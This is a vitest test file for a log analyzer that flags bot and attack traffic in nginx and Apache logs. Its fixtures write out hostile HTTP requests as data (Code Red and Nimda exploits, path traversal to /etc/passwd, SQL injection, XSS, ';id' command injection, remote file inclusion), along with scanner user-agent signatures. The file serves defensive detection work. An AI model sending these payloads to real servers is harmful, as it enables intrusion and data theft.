import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { BotAnalyzer, type ClientReport } from '../../src/audit/bots/analyzer.js';
import { classifyUserAgent } from '../../src/audit/bots/classify.js';
import { LFI_OS_FILES } from '../../src/audit/bots/data/crs.js';
import { LFI_GATE, matchHeader, matchRequest, scannerOf } from '../../src/audit/bots/signatures.js';
import {
  detectFormat,
  parseApacheErrorLine,
  parseNginxErrorLine,
  parserFor,
} from '../../src/audit/logs/logFormat.js';
import { analyzeBotsTool } from '../../src/tools/analyzeBots.js';
import type { ToolContext } from '../../src/tools/types.js';
import { configFrom } from '../helpers/servers.js';

const combined = parserFor('combined');
const corpus = join(import.meta.dirname, '../corpora/bots');
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

function line(ip: string, request: string, status = 404, ua = BROWSER, second = 0): string {
  return `${ip} - - [05/Dec/2026:10:00:${String(second).padStart(2, '0')} +0000] "${request}" ${status} 0 "-" "${ua}"`;
}

function analyze(lines: string[]): Map<string, ClientReport> {
  const a = new BotAnalyzer({ isAllowed: () => false });
  for (const l of lines) {
    const e = combined(l) ?? parseNginxErrorLine(l) ?? parseApacheErrorLine(l);
    if (e) a.add(e);
  }
  return new Map(a.finish(1000).clients.map((c) => [c.ip, c]));
}

// Each defect of issue 16, one request from one address: it must reach "medium" alone.
const SINGLE_EXPLOITS: Array<[string, string, string]> = [
  ['Code Red', `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801=a HTTP/1.0`, 'iis.codered'],
  ['Nimda, lower-case get', 'get /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0', 'iis.nimda'],
  ['double-encoded traversal', 'GET /scripts/..%255c..%255c../winnt/system32/ HTTP/1.0', 'iis.nimda'],
  ['WebDAV SEARCH overflow', `SEARCH /${'A'.repeat(3000)} HTTP/1.1`, 'method.webdav_overflow'],
  ['WebDAV PROPFIND overflow', `PROPFIND /${'%u0041'.repeat(400)} HTTP/1.1`, 'method.webdav_overflow'],
  ['TRACK probe', 'TRACK / HTTP/1.1', 'method.track'],
  ['CONNECT proxy abuse', 'CONNECT mail.example.net:25 HTTP/1.0', 'proxy.connect'],
  ['absolute-URI proxy abuse', 'GET http://www.example.net/ HTTP/1.1', 'proxy.absolute_uri'],
  ['remote file inclusion', 'GET /index.php?page=http://198.51.100.9/x.txt? HTTP/1.1', 'rfi.ip_address_url'],
  [
    'path traversal in a query',
    'GET /download.php?file=../../../../etc/passwd HTTP/1.1',
    'traversal.dot_dot',
  ],
  ['SQL injection', "GET /item.php?id=1'%20OR%20'1'='1 HTTP/1.1", 'sqli.tautology'],
  ['SQL injection, union', 'GET /item.php?id=-1+UNION+ALL+SELECT+1,2,3-- HTTP/1.1', 'sqli.union_select'],
  ['XSS', 'GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 'xss.tag'],
  ['command injection', 'GET /ping.php?host=127.0.0.1;id HTTP/1.1', 'cmd.shell_chain'],
  ['TrackBack spam', 'POST /blog/2014/05/hello/trackback/ HTTP/1.1', 'spam.trackback'],
];

describe('attack signatures (issue 16 defects)', () => {
  it.each(SINGLE_EXPLOITS)(
    '%s: one request makes its address medium, with the request as evidence',
    (_n, request, sig) => {
      const ip = '192.0.2.44';
      const c = analyze([line(ip, request)]).get(ip);
      expect(c?.threatLevel).toBe('medium');
      const reason = c?.reasons.find((r) => r.id.startsWith('attack_'));
      expect(reason?.signature).toBe(sig);
      expect(reason?.evidence).toContain(request.split(' ')[1]?.slice(0, 40));
    },
  );

  it('two attempts, two families, or a 2xx on an exploit path make it high', () => {
    const r = analyze([
      line('192.0.2.1', 'GET /default.ida?NNNN HTTP/1.0'),
      line('192.0.2.1', 'GET /default.ida?XXXX HTTP/1.0', 404, BROWSER, 5),
      line('192.0.2.2', "GET /a?id=1'%20or%201=1-- HTTP/1.1"),
      line('192.0.2.2', 'GET /a?q=%3Csvg/onload=alert(1)%3E HTTP/1.1', 404, BROWSER, 5),
      line('192.0.2.3', 'GET /scripts/root.exe?/c+dir HTTP/1.0', 200),
    ]);
    expect(r.get('192.0.2.1')?.reasons.map((x) => x.id)).toContain('attack_repeated');
    expect(r.get('192.0.2.2')?.reasons.map((x) => x.id)).toEqual(
      expect.arrayContaining(['attack_sqli', 'attack_xss']),
    );
    expect(r.get('192.0.2.3')?.reasons.map((x) => x.id)).toContain('attack_success');
    for (const ip of ['192.0.2.1', '192.0.2.2', '192.0.2.3']) expect(r.get(ip)?.threatLevel).toBe('high');
  });

  it('keeps ordinary requests clean: searches with quotes, SQL words, URLs in parameters', () => {
    const benign = [
      'GET /search?q=O%27Reilly+books HTTP/1.1',
      'GET /search?q=union+station+parking HTTP/1.1',
      'GET /search?q=select+a+size+from+the+list HTTP/1.1',
      'GET /search?q=price+%3C+20 HTTP/1.1',
      'GET /search?q=tom+%26+cat+food HTTP/1.1',
      'GET /login?redirect_to=https%3A%2F%2Fwww.example.org%2Fblog%2F HTTP/1.1',
      'GET /post?ref=https%3A%2F%2Fnews.ycombinator.com%2Fitem%3Fid%3D1 HTTP/1.1',
      'GET /presentations/?C=M;O=D HTTP/1.1',
      'GET /blog/tags/shell?page=1 HTTP/1.1',
      'GET /blog/2014/05/hello/trackback/ HTTP/1.1',
      'GET /files/my%20report%20(final).pdf HTTP/1.1',
      'GET /search?q=hex+(10+pack)+bolts HTTP/1.1',
      'GET /search?q=union+select+committee HTTP/1.1',
      'GET /search?q=how+to+select+rows+from+a+table+where+a+column+is+null HTTP/1.1',
      'GET /?utm_source=x&utm_content=https%3A%2F%2Fexample.org%2Fpost HTTP/1.1',
      'GET /share?source=https%3A%2F%2Fexample.org%2F&page=2 HTTP/1.1',
      'GET /contact?message=%0Aid+like+a+quote HTTP/1.1',
      'POST /cgi-bin/FormMail.pl HTTP/1.1',
      `GET /sso?SAMLRequest=${'fZJNT8MwDIbvSPyHKvc2XSf2EW2TxkBi0oBpGxy4oJC6a6QkLrEL7N+TrSDGYVz'.repeat(30)} HTTP/1.1`,
    ];
    for (const req of benign) {
      const [method, target] = req.split(' ') as [string, string];
      expect(matchRequest(method, target, null), req).toBeUndefined();
    }
  });

  it('ignores an absolute URI for the logged virtual host', () => {
    expect(matchRequest('GET', 'http://shop.example/cart', 'shop.example')).toBeUndefined();
    expect(matchRequest('GET', 'http://other.example/', 'shop.example')?.signature).toBe(
      'proxy.absolute_uri',
    );
  });
});

describe('signature matching cost', () => {
  it('gates the LFI phrase scan with a test every CRS phrase passes', () => {
    expect(LFI_OS_FILES.filter((p) => !LFI_GATE.test(p))).toEqual([]);
  });

  it('stays near-linear on hostile 16 KiB targets (repeated tokens that make regexes backtrack)', () => {
    const tokens = [
      'select from ',
      "' or ",
      '<a ',
      '/etc/',
      '{a',
      '%25',
      '..',
      '${',
      '{{',
      '(',
      '/.',
      'sleep(',
      '\\x90',
    ];
    const times: number[] = [];
    for (const t of tokens)
      for (const pre of ['/', '/?q=', '/a?x=1&q=']) {
        const target = pre + t.repeat(Math.ceil(16_384 / t.length)).slice(0, 16_384);
        const started = performance.now();
        matchRequest('GET', target, null);
        matchHeader(target);
        times.push(performance.now() - started);
      }
    // ~40 ms when measured on a loaded 2-core machine; a quadratic pattern takes seconds (the
    // unbounded OGNL `\$\{.*#` took 0.9 s on "${${${...").
    expect(Math.max(...times)).toBeLessThan(1500);
  });
});

describe('scanner user agents from the OWASP CRS list', () => {
  // Nikto's own strings (sullo/nikto: nikto.conf of 2.1.5, d8eb054; 2.1.0's default).
  it.each([
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'Mozilla/4.75 (Nikto/2.1.0)',
    'Mozilla/4.75 (Nikto/1.35 )',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Wfuzz/3.1.0',
    'WhatWeb/0.5.5',
    'gobuster/3.5',
    'Fuzz Faster U Fool v1.1.0',
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
  ])('%s is a scanner, not a human', (ua) => {
    expect(classifyUserAgent(ua).cls).toBe('scanner');
  });

  it('does not take a word inside another for a tool', () => {
    expect(scannerOf('Mozilla/5.0 (Linux; Android 14; Vegas-Phone) Chrome/131.0')).toBeUndefined();
    expect(classifyUserAgent(BROWSER).cls).toBe('human');
  });

  it('rates a Nikto client high by its user agent alone', () => {
    const ip = '198.51.100.7';
    const c = analyze([
      line(ip, 'GET / HTTP/1.1', 200, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'),
    ]).get(ip);
    expect(c?.classification).toBe('scanner');
    expect(c?.threatLevel).toBe('high');
  });
});

/** Real lines from the recorded corpus (tests/corpora/bots/recorded, see its SOURCES.md). */
function recorded(name: string): string[] {
  return gunzipSync(readFileSync(join(corpus, 'recorded', name)))
    .toString('utf8')
    .split('\n');
}

describe('error logs (real nginx 1.22 and Apache 2.4 + ModSecurity lines)', () => {
  const nginx = recorded('nginx-error.log.gz');
  const apache = recorded('apache-error.log.gz');
  const first = (lines: string[], re: RegExp) => lines.find((l) => re.test(l)) as string;

  it('reads the client, the event and the request of each kind of line', () => {
    expect(parseNginxErrorLine(first(nginx, /limiting requests/))?.event?.kind).toBe('rate_limited');
    expect(parseNginxErrorLine(first(nginx, /password mismatch|was not found in/))?.event?.kind).toBe(
      'auth_failure',
    );
    const missing = parseNginxErrorLine(first(nginx, /open\(\) .* failed \(2:/));
    expect(missing).toMatchObject({ event: { kind: 'not_found' }, method: 'GET' });
    expect(missing?.ip).toMatch(/^(192\.0\.2|198\.51\.100|203\.0\.113)\./);
    const modsec = parseApacheErrorLine(first(apache, /ModSecurity: .*\[id "942/));
    expect(modsec).toMatchObject({ event: { kind: 'waf' } });
    expect(modsec?.event?.ruleId).toMatch(/^942\d{3}$/);
    expect(modsec?.ip).not.toContain(':0');
    expect(parseApacheErrorLine(first(apache, /AH00128: File does not exist/))?.event?.kind).toBe(
      'not_found',
    );
    expect(parseApacheErrorLine(first(apache, /AH01617|AH01618/))?.event?.kind).toBe('auth_failure');
  });

  it('recognises both error logs with format auto', () => {
    expect(detectFormat(nginx.slice(0, 50))?.name).toBe('nginx_error');
    expect(detectFormat(apache.slice(0, 50))?.name).toBe('apache_error');
  });

  it('feeds auth failures into the per-IP score, never counting them as requests', () => {
    const fail = first(nginx, /password mismatch|was not found in/);
    const lines = Array.from({ length: 25 }, () => fail.replace(/client: [^,]+/, 'client: 203.0.113.250'));
    const a = new BotAnalyzer({ isAllowed: () => false });
    for (const l of lines)
      a.add(parseNginxErrorLine(l) as NonNullable<ReturnType<typeof parseNginxErrorLine>>);
    const r = a.finish(10);
    expect(r.requests).toBe(0);
    expect(r.clients[0]).toMatchObject({ ip: '203.0.113.250', threatLevel: 'medium' });
    expect(r.clients[0]?.reasons[0]).toMatchObject({
      id: 'auth_failures',
      evidence: expect.stringContaining('25 failed logins'),
    });
  });

  it('does not count one request twice when it is in both the access and the error log', () => {
    const r = analyze([
      line('192.0.2.9', 'GET /download.php?file=../../../etc/passwd HTTP/1.1'),
      '2026/12/05 10:00:00 [error] 7#7: *1 open() "/srv/www/download.php" failed (2: No such file or directory), client: 192.0.2.9, server: s, request: "GET /download.php?file=../../../etc/passwd HTTP/1.1", host: "h"',
    ]);
    expect(r.get('192.0.2.9')?.threatLevel).toBe('medium');
  });
});

describe('analyze_bots with odd files in a set (handler called directly)', () => {
  const root = mkdtempSync(join(tmpdir(), 'bots-odd-'));
  const dir = join(root, 'logs');
  mkdirSync(dir);
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const ctx = {
    config: configFrom({ AUDIT_ALLOWED_PATHS: root, HOST_ROOT: '/' }),
    host: { proc: '/proc', sys: '/sys', root: '/' },
    signal: new AbortController().signal,
    progress: async () => undefined,
    outbound: {},
  } as unknown as ToolContext;
  const args = (paths: string[]) => ({
    paths,
    format: 'auto',
    top: 25,
    verifyBots: false,
    maxLines: 1_000_000,
    maxBytes: 1024 ** 3,
  });
  const sample = readFileSync(join(import.meta.dirname, '../fixtures/logs/elastic-apache-10k.log'), 'utf8')
    .split('\n')
    .slice(0, 200)
    .join('\n');

  it('skips an empty rotated file, a blank one and an unknown one with a note, and reads the rest', async () => {
    writeFileSync(join(dir, 'access.log'), `${sample}\n`);
    writeFileSync(join(dir, 'access.log.1.gz'), ''); // 0 bytes: not even valid gzip
    writeFileSync(join(dir, 'access.log.2.gz'), gzipSync(''));
    writeFileSync(join(dir, 'access.log.3'), '\n\n\n');
    writeFileSync(join(dir, 'access.log.4'), 'hello\nworld\n');
    const r = await analyzeBotsTool.handler(args([join(dir, 'access.log*')]), ctx);
    const notes = Object.fromEntries(
      r.structured.summary.files.map((f) => [f.path.split('/').pop(), f.note]),
    );
    expect(notes).toEqual({
      'access.log.4': expect.stringContaining('not recognised'),
      'access.log.3': 'skipped: only blank lines',
      'access.log.2.gz': 'skipped: no lines',
      'access.log.1.gz': 'skipped: empty file',
      'access.log': null,
    });
    expect(r.structured.summary.parsed).toBe(200);
    expect(r.structured.summary.skipped.unrecognised_file).toBe(2);
  });

  it('reads an access log and an error log together, each in its own format', async () => {
    writeFileSync(join(dir, 'error.log'), nginxLines());
    const r = await analyzeBotsTool.handler(args([join(dir, 'access.log'), join(dir, 'error.log')]), ctx);
    const formats = r.structured.summary.files.map((f) => f.format);
    expect(formats).toEqual(expect.arrayContaining(['combined', 'nginx_error']));
    expect(r.structured.summary.errorLogEvents).toBeGreaterThan(0);
    expect(r.structured.summary.requests).toBe(200);
  });
});

function nginxLines(): string {
  return recorded('nginx-error.log.gz').slice(0, 400).join('\n');
}
